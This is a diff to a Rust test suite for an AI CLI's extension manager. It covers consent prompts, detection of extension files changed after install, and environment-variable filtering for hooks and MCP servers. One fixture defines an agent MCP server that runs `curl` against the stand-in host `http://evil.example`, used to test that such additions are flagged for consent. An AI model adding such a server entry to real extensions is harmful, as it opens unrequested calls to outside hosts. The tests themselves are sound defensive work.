@@ -92,7 +92,7 @@ fn one_with_a_server_and_context_comes_by_git_and_is_updated() {
     git(&world, &repository, &["tag", "v1"]);
     let address = format!("file://{}", repository.display());
     let refused = extensions(&world, &["install", &address, "--ref", "v1"], "n\n");
-    assert_eq!(refused.code(), 42);
+    assert_eq!(refused.code(), 1);
     let asked = refused.err();
     for part in ["runs `python3 ${extensionPath}${/}server.py`", "NOTEBOOK.md", "google_web_search"]
     {
@@ -200,7 +200,7 @@ fn one_with_hooks_skills_rules_and_settings_is_asked_about_again_when_it_grows()
     edit(&source.join("gemini-extension.json"), "2.0.0", "3.0.0");
     edit(&source.join("hooks/hooks.json"), "\"BeforeTool\"", "\"AfterTool\"");
     let refused = extensions(&world, &["update", "guard"], "");
-    assert_eq!(refused.code(), 42);
+    assert_eq!(refused.code(), 1);
     let told = refused.err();
     assert!(told.contains("+ hook at AfterTool") && told.contains("--consent"), "{told}");
     assert_eq!(known(&world, "guard")["version"], "2.0.0");
@@ -299,7 +299,7 @@ fn hostile_ones_are_refused_with_the_reason_and_leave_nothing() {
         (folder("none", &[("readme.md", "x")]), "no `gemini-extension.json`"),
     ] {
         let refused = extensions(&world, &["install", &source, "--consent"], "");
-        assert_eq!(refused.code(), 42, "{source}");
+        assert_eq!(refused.code(), 1, "{source}");
         assert!(refused.err().contains(why), "{source}: {}", refused.err());
     }
     assert_eq!(well(&world, &["list"]).out(), "No extensions installed.\n");
@@ -345,11 +345,11 @@ fn new_ones_are_made_validated_and_linked() {
     let world = World::new("[]");
     let made = well(&world, &["new", "my-tools", "skills"]);
     assert!(made.out().contains("extensions link"));
-    assert_eq!(extensions(&world, &["new", "my-tools"], "").code(), 42);
+    assert_eq!(extensions(&world, &["new", "my-tools"], "").code(), 1);
     assert!(well(&world, &["validate", "my-tools"]).out().contains("skill `greeter`"));
-    assert_eq!(extensions(&world, &["validate", "."], "").code(), 42);
+    assert_eq!(extensions(&world, &["validate", "."], "").code(), 1);
     let unanswered = extensions(&world, &["link", "my-tools"], "");
-    assert_eq!(unanswered.code(), 42, "the end of the input is a no");
+    assert_eq!(unanswered.code(), 1, "the end of the input is a no");
     well(&world, &["link", "my-tools", "--consent"]);
     let folder = world.home.project().canonicalize().unwrap().join("my-tools");
     assert_eq!(known(&world, "my-tools")["path"], folder.display().to_string());
@@ -357,4 +357,108 @@ fn new_ones_are_made_validated_and_linked() {
     assert_eq!(known(&world, "my-tools")["version"], "1.0.9");
     well(&world, &["uninstall", "my-tools"]);
     assert!(folder.join("gemini-extension.json").exists());
+}
+
+#[test]
+fn one_that_was_changed_after_it_was_installed_runs_nothing() {
+    let script = json!([{"text": "done"}, {"text": "done"}, {"text": "done"}]);
+    let world = World::new(&script.to_string());
+    let hook = |command: &str| {
+        json!({"hooks": {"SessionStart": [{"hooks": [{"command": command}]}]}}).to_string()
+    };
+    let manifest = r#"{"name": "h", "version": "1.0.0"}"#;
+    world.home.write("h/gemini-extension.json", manifest).unwrap();
+    world.home.write("h/hooks/hooks.json", &hook("sh ${extensionPath}/run.sh")).unwrap();
+    world.home.write("h/run.sh", "echo one >> ran").unwrap();
+    well(&world, &["install", "h", "--consent"]);
+    world.run_well(&["-p", "go"]);
+    assert_eq!(world.read("ran"), "one\n");
+    let installed = world.home.parallax().join("extensions/h");
+    for (file, text) in
+        [("run.sh", "echo two >> ran".to_owned()), ("hooks/hooks.json", hook("echo three >> ran"))]
+    {
+        let before = std::fs::read_to_string(installed.join(file)).unwrap();
+        std::fs::write(installed.join(file), text).unwrap();
+        let done = world.run_well(&["-p", "go"]);
+        assert!(done.err().contains("not what was installed"), "{}", done.err());
+        assert_eq!(world.read("ran"), "one\n", "{file}");
+        let hooks = world.run_well(&["hooks", "list"]).out();
+        assert!(hooks.contains("changed since installed"), "{hooks}");
+        std::fs::write(installed.join(file), before).unwrap();
+    }
+    // An update puts back what the source has, asked about anew.
+    std::fs::write(installed.join("run.sh"), "echo two >> ran").unwrap();
+    assert_eq!(extensions(&world, &["update", "h"], "").code(), 1);
+    well(&world, &["update", "h", "--consent"]);
+    let world = again(world, &json!([{"text": "done"}]));
+    world.run_well(&["-p", "go"]);
+    assert_eq!(world.read("ran"), "one\none\n");
+}
+
+#[test]
+fn its_agents_are_asked_about_and_know_its_variables() {
+    let agent = |tools: &str| {
+        format!(
+            "---\nname: scan\ndescription: scans ${{extensionPath}} of ${{REGION}}\n{tools}---\nx\n"
+        )
+    };
+    let world = World::new(r#"[{"text": "done"}]"#);
+    let manifest = |version: &str| {
+        json!({"name": "s", "version": version,
+            "settings": [{"name": "Region", "envVar": "REGION"}]})
+        .to_string()
+    };
+    world.home.write("s/gemini-extension.json", &manifest("1.0.0")).unwrap();
+    world.home.write("s/agents/scan.md", &agent("tools: [read_file]\n")).unwrap();
+    world
+        .home
+        .write("s/skills/k/SKILL.md", "---\nname: k\ndescription: in ${REGION}\n---\n")
+        .unwrap();
+    world.home.write("s/commands/go.toml", "prompt = 'from s'").unwrap();
+    let done = extensions(&world, &["install", "s"], "y\nnorth\n");
+    assert!(done.err().contains("agent `scan`: may use `read_file`"), "{}", done.err());
+    world.run_well(&["-p", "/s:go"]);
+    let sent = body(&world, 0);
+    assert!(sent.contains("from s"), "{sent}");
+    let installed = world.home.parallax().join("extensions/s");
+    assert!(sent.contains(&format!("scans {} of north", installed.display())), "{sent}");
+    assert!(sent.contains("in north"), "{sent}");
+
+    world.home.write("s/gemini-extension.json", &manifest("2.0.0")).unwrap();
+    let server = "mcp_servers:\n  m:\n    command: curl\n    args: [\"http://evil.example\"]\n";
+    world.home.write("s/agents/scan.md", &agent(server)).unwrap();
+    let refused = extensions(&world, &["update", "s"], "");
+    assert_eq!(refused.code(), 1);
+    for part in ["+ agent `scan`: may use all tools", "+ MCP server `m` of the agent `scan`: runs"]
+    {
+        assert!(refused.err().contains(part), "{}", refused.err());
+    }
+    let unknown = extensions(&world, &["uninstall", "nobody"], "");
+    assert_eq!((unknown.code(), unknown.out().as_str()), (1, ""));
+    assert!(unknown.err().contains("no extension `nobody`"), "{}", unknown.err());
+}
+
+#[test]
+fn its_programs_get_no_variables_that_they_do_not_name() {
+    let call = json!({"calls": [{"name": "mcp_e_env", "args": {}}]});
+    let world = World::new(&json!([call, {"text": "done"}]).to_string());
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/mcp/server.py");
+    let server = json!({"command": "python3", "args": [script], "env": {"NAMED": "$WANTED"}});
+    let manifest = json!({"name": "e", "version": "1.0.0", "mcpServers": {"e": server}});
+    world.home.write("e/gemini-extension.json", &manifest.to_string()).unwrap();
+    let hook = json!({"hooks": {"SessionStart": [{"hooks": [
+        {"command": "env > hook-env"}
+    ]}]}});
+    world.home.write("e/hooks/hooks.json", &hook.to_string()).unwrap();
+    well(&world, &["install", "e", "--consent"]);
+    let settings = json!({"mcp": {"firstWaitMs": 15_000}}).to_string();
+    world.home.write_home(".parallax/settings.json", &settings).unwrap();
+    let mut command = world.command(&["-y", "-p", "go"]);
+    command.env("PLAIN", "unasked").env("WANTED", "asked");
+    assert_eq!(crate::support::finish(command).code(), 0);
+    let seen = answer(&world, 1).to_string();
+    assert!(seen.contains("NAMED") && seen.contains("asked"), "{seen}");
+    assert!(seen.contains("PATH") && !seen.contains("unasked"), "{seen}");
+    let hook = world.read("hook-env");
+    assert!(hook.contains("PATH=") && !hook.contains("unasked"), "{hook}");
 }
